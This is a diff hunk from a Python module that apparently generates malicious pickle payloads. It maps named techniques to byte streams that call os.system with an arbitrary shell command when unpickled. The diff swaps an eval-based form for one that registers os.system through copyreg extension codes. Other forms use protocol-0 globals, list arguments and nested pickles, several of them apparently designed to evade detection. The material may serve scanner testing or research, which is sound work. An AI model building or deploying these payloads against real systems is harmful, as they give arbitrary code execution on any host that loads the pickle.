@@ -80,8 +80,12 @@ FORMS = {
     "arguments of a list": lambda shell: (
         HEAD + glob("builtins", "tuple") + many(b"](" + text(shell.decode()) + b"e") + b"Rq\x000" + SYSTEM + b"h\x00R."
     ),
-    "set by BUILD of a class's dictionary": lambda shell: stream(
-        call("builtins:eval", f"__import__('os').system({shell.decode()!r})")
+    "EXT2 of a code that the stream registers": lambda shell: (
+        HEAD
+        + call_of("copyreg", "add_extension", text("os"), text("system"), b"M\x00\x01")
+        + b"0\x83\x00\x01"
+        + many(text(shell.decode()))
+        + b"R."
     ),
     "dots of protocol 0": lambda shell: dots("os", "system") + b"(V" + shell + b"\ntR.",
     "bytes that are a pickle": lambda shell: (
